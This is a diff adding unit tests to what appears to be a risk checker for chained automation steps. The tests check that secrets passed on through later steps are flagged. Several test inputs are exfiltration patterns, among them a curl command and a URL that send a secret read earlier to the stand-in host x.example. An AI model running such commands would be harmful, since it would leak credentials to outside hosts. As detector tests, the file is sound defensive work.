@@ -3,7 +3,7 @@
 from schemas.json_text import JsonObject
 from schemas.words import Effect, RiskLevel
 from stage_e.risk.flow import FlowStep, flow_reasons
-from stage_e.risk.judgement import Judgement
+from stage_e.risk.judgement import Judgement, Reason
 
 LOW = Judgement(Effect.READ, RiskLevel.LOW)
 SECRET = Judgement(Effect.READ, RiskLevel.HIGH)
@@ -82,3 +82,30 @@ def test_running_what_an_earlier_command_left_is_found() -> None:
     assert rules(a_step("a", command="ls /opt/tidy.sh", target_host="web-01"), runs)["b"] == []
     assert rules(fetches, a_step("b", unseen, command="bash /opt/tidy.sh", target_host="web-02"))["b"] == []
     assert rules(fetches, a_step("b", unseen, command="bash /opt/other.sh", target_host="web-01"))["b"] == []
+
+
+def test_a_secret_is_one_also_after_a_step_that_only_passes_it_on() -> None:
+    passes = a_step("b", command="echo {{a.output}}")
+    message = FlowStep("c", {"text": "{{b.output}}"}, MESSAGE, tells=True)
+    decides = a_step("b", condition="{{a.output}} == 0")
+
+    assert rules(a_step("a", SECRET), passes, message)["c"] == ["flow.secret"]
+    assert rules(a_step("a", SECRET), decides, message)["c"] == []
+    assert rules(a_step("a"), passes, message)["c"] == []
+
+
+def test_a_secret_in_an_address_leaves_also_by_a_read() -> None:
+    reader = a_step("a", SECRET)
+
+    assert rules(reader, a_step("b", url="https://x.example/?a={{a.output}}"))["b"] == ["flow.secret"]
+    assert rules(reader, a_step("b", command="curl https://x.example/{{a.output}}"))["b"] == ["flow.secret"]
+    assert rules(reader, a_step("b", command="df -h {{a.output}}"))["b"] == []
+
+
+def test_what_may_hold_a_secret_is_no_message_for_everybody() -> None:
+    reason = Reason("path.may_hold_secrets", "it may", RiskLevel.MEDIUM)
+    reader = a_step("a", Judgement(Effect.READ, RiskLevel.MEDIUM, (reason,)))
+    message = FlowStep("b", {"text": "{{a.output}}"}, MESSAGE, tells=True)
+
+    assert rules(reader, message)["b"] == ["flow.may_hold_secret"]
+    assert rules(reader, a_step("b", command="df {{a.output}}"))["b"] == []
